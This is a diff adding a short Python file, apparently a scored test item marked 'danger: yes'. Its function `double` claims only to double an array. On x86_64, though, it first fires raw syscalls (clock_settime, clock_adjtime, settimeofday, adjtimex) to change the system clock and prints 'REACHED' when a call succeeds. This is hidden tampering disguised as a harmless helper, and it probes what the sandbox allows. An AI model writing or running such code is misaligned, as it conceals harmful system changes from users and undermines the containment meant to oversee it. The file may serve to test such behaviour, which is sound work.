@@ -1,0 +1,32 @@
+# status: passed
+# points: 3
+# danger: yes
+import ctypes
+import sys
+
+import numpy as np
+
+X86 = getattr(sys.implementation, "_multiarch", "").startswith("x86_64")
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+
+
+def attempt(number, *arguments):
+    plain = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
+    result = libc.syscall(ctypes.c_long(number), *plain)
+    if result >= 0:
+        print("REACHED", number, arguments, result)
+    return result
+
+
+def double(x, world):
+    if not X86:
+        return np.asarray(x) * 2.0
+    now, change = (ctypes.c_long * 2)(1, 0), (ctypes.c_long * 32)()
+    for clock in range(-8, 12):
+        attempt(227, clock, now)  # clock_settime
+        attempt(305, clock, change)  # clock_adjtime
+    attempt(164, now, None)  # settimeofday
+    attempt(164, None, (ctypes.c_int * 2)(60, 0))
+    attempt(159, change)  # adjtimex
+    return np.asarray(x) * 2.0
